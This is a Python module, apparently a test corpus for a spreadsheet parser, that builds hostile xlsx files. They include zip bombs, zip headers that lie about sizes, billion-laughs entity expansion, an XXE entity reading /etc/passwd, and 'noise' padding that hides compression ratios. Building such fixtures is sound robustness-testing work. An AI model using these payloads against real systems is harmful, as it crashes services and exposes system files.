"""The bomb corpus: small files that hurt a careless reader. Each builder returns the bytes of one."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

SHEET_HEAD = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"
SHARED_STRING = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{}</t></si></sst>'
WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{sheets}</sheets></workbook>'
)
ONE_SHEET = '<sheet name="Januar 2025" sheetId="1" r:id="rId1"/>'
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
ROOT_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
MEGABYTE = 1024 * 1024


def package(
    sheet: str | bytes = SHEET_HEAD + SHEET_TAIL,
    *,
    sheets: str = ONE_SHEET,
    others: dict[str, str | bytes] | None = None,
    noise: int = 0,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Return a minimal workbook with this XML as its sheet; bytes of `noise` make its ratio look harmless."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELATIONS)
        book.writestr("xl/workbook.xml", WORKBOOK.format(sheets=sheets))
        book.writestr("xl/_rels/workbook.xml.rels", RELATIONS)
        book.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, content in (others or {}).items():
            book.writestr(name, content)
        book.writestr("xl/media/noise.png", random.Random(7).randbytes(noise))
    return file.getvalue()


def cells(xml: str, *, noise: int = 0) -> bytes:
    return package(SHEET_HEAD + xml + SHEET_TAIL, noise=noise)


def far_cell() -> bytes:
    """4.9 KB that make calamine allocate 2 GB or abort the process."""
    return cells('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def far_cell_with_prefix() -> bytes:
    head = SHEET_HEAD.replace("<worksheet xmlns", "<x:worksheet xmlns:x").replace("<sheetData>", "<x:sheetData>")
    return package(f'{head}<x:row r="9"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>')


def many_cells_without_references() -> bytes:
    return cells("<row>" + "<c><v>1</v></c>" * 400_000 + "</row>", noise=MEGABYTE)


def lying_dimension() -> bytes:
    body = '<row r="900000"><c r="A900000"><v>1</v></c></row>'
    return package(SHEET_HEAD.replace("<sheetData>", '<dimension ref="A1:B2"/><sheetData>') + body + SHEET_TAIL)


def zip_of_nothing() -> bytes:
    """110 MB of blanks in 110 KB."""
    return package(SHEET_HEAD + " " * (110 * MEGABYTE) + SHEET_TAIL)


def half_a_zip_of_nothing() -> bytes:
    return package(SHEET_HEAD + " " * (50 * MEGABYTE) + SHEET_TAIL)


def zip_of_nothing_in_an_unused_part() -> bytes:
    return package(others={"xl/media/picture.png": b"\0" * (110 * MEGABYTE)})


def many_tags() -> bytes:
    return package(SHEET_HEAD + "<a/>" * 7_100_000 + SHEET_TAIL, noise=MEGABYTE)


def far_cell_after_many_others() -> bytes:
    """All the tags that a file may have, and the far cell at the very end."""
    row = "".join(f'<c r="{chr(65 + column)}{{n}}"><v>1</v></c>' for column in range(10))
    body = "".join(f'<row r="{n}">{row.replace("{n}", str(n))}</row>' for n in range(1, 100_001))
    return cells(body + '<row r="1048576"><c r="A1048576"/></row>', noise=MEGABYTE)


def lying_sizes() -> bytes:
    """A sheet that says 1 KB in the headers and unpacks to 150 MB."""
    honest = SHEET_HEAD.encode() + b" " * 1024
    content = package(honest)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(b"<row/>" * MEGABYTE) for _ in range(25)) + packer.flush()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        entry = book.getinfo("xl/worksheets/sheet1.xml")
    start = entry.header_offset + 30 + len(entry.filename)
    grown = content[:start] + packed + content[start + entry.compress_size :]
    shift = len(packed) - entry.compress_size
    end = grown.rindex(b"PK\x05\x06")
    directory = struct.unpack("<L", grown[end + 16 : end + 20])[0] + shift
    at = directory
    while grown[at : at + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack("<3H", grown[at + 28 : at + 34])
        offset = struct.unpack("<L", grown[at + 42 : at + 46])[0]
        if grown[at + 46 : at + 46 + name] == b"xl/worksheets/sheet1.xml":
            grown = grown[: at + 20] + struct.pack("<L", len(packed)) + grown[at + 24 :]
        elif offset > entry.header_offset:
            grown = grown[: at + 42] + struct.pack("<L", offset + shift) + grown[at + 46 :]
        at += 46 + name + extra + comment
    return grown[: end + 16] + struct.pack("<L", directory) + grown[end + 20 :]


def quoted_overlap() -> bytes:
    """Thousands of directory entries that all point at the same packed bytes."""
    content = package(SHEET_HEAD + " " * MEGABYTE + SHEET_TAIL)
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack("<L", content[end + 16 : end + 20])[0]
    directory = content[start:end] * 500
    record = content[end : end + 8] + struct.pack("<HHLL", 2000, 2000, len(directory), start) + content[end + 20 :]
    return content[:start] + directory + record


def huge_directory() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as book:
        for number in range(40_000):
            book.writestr(f"x{number}", b"")
    return file.getvalue()


def zip64() -> bytes:
    content = package()
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack("<L", content[end + 16 : end + 20])[0]
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**40, 2**40, end - start, start)
    return content[:end] + record + struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1) + content[end:]


def huge_shared_string() -> bytes:
    strings = SHARED_STRING.format("x" * 10 * MEGABYTE)
    body = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 10_001))
    return package(SHEET_HEAD + body + SHEET_TAIL, others={"xl/sharedStrings.xml": strings}, noise=MEGABYTE)


def shared_string_used_everywhere() -> bytes:
    """A text within every bound, used by so many cells that they hold 10 GB of it."""
    strings = SHARED_STRING.format("x" * 32_000)
    row = "".join(f'<c r="{chr(65 + column)}{{n}}" t="s"><v>0</v></c>' for column in range(10))
    body = "".join(f'<row r="{n}">{row.replace("{n}", str(n))}</row>' for n in range(1, 30_001))
    return package(SHEET_HEAD + body + SHEET_TAIL, others={"xl/sharedStrings.xml": strings})


def shared_strings_in_another_part() -> bytes:
    strings = SHARED_STRING.format("x")
    return package(others={"xl/strings.xml": strings})


def huge_inline_cell() -> bytes:
    return cells(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 50 * MEGABYTE}</t></is></c></row>', noise=MEGABYTE)


def billion_laughs() -> bytes:
    entities = '<!ENTITY a "haha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    return package(f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><worksheet><sheetData>&j;</sheetData></worksheet>')


def outside_entity() -> bytes:
    return package(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>'
    )


def many_sheets() -> bytes:
    sheets = "".join(f'<sheet name="A{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 5001))
    return package(sheets=sheets)


def one_sheet_under_many_names() -> bytes:
    """Fifty names for one sheet of 100,000 rows: each would be read."""
    sheets = "".join(f'<sheet name="A{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 51))
    body = "".join(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>' for number in range(1, 100_001))
    return package(SHEET_HEAD + body + SHEET_TAIL, sheets=sheets)


def macros() -> bytes:
    return package(others={"xl/vbaProject.bin": b"Sub Auto_Open()"})


def utf16_sheet() -> bytes:
    return package((SHEET_HEAD.replace("?>", ' encoding="UTF-16"?>', 1) + SHEET_TAIL).encode("utf-16"))


def deep_nesting() -> bytes:
    return package(SHEET_HEAD + "<a>" * 1_000_000 + "</a>" * 1_000_000 + SHEET_TAIL, noise=MEGABYTE)


def unclosed_xml() -> bytes:
    return package(SHEET_HEAD + '<row r="1"><c r="A1"><v>1')


def absurd_references() -> bytes:
    return cells('<row r="99999999999999999999"><c r="AAAAAA1"><v>1</v></c></row>')


def negative_reference() -> bytes:
    return cells('<row r="-1"><c r="A-1"><v>1</v></c></row>')


def bzip_compressed() -> bytes:
    return package(compression=zipfile.ZIP_BZIP2)


def encrypted() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def encrypted_entry() -> bytes:
    content = bytearray(package())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def same_name_twice() -> bytes:
    return package(others={"XL\\Worksheets\\SHEET1.XML": SHEET_HEAD + SHEET_TAIL})


def binary_workbook() -> bytes:
    return package(others={"xl/workbook.bin": b"\0"})


def open_document() -> bytes:
    return package(others={"content.xml": "<x/>", "mimetype": "application/vnd.oasis.opendocument.spreadsheet"})


def no_zip() -> bytes:
    return b"Kommune;Agent\r\n"


def cut_off() -> bytes:
    return package()[:-200]


def only_a_start() -> bytes:
    return b"PK\x03\x04"


BOMBS: dict[str, Callable[[], bytes]] = {
    builder.__name__: builder
    for builder in (
        far_cell,
        far_cell_with_prefix,
        many_cells_without_references,
        lying_dimension,
        zip_of_nothing,
        half_a_zip_of_nothing,
        zip_of_nothing_in_an_unused_part,
        many_tags,
        far_cell_after_many_others,
        lying_sizes,
        quoted_overlap,
        huge_directory,
        zip64,
        huge_shared_string,
        shared_string_used_everywhere,
        shared_strings_in_another_part,
        huge_inline_cell,
        billion_laughs,
        outside_entity,
        many_sheets,
        one_sheet_under_many_names,
        macros,
        utf16_sheet,
        unclosed_xml,
        absurd_references,
        negative_reference,
        bzip_compressed,
        encrypted,
        encrypted_entry,
        same_name_twice,
        binary_workbook,
        open_document,
        no_zip,
        cut_off,
        only_a_start,
    )
}
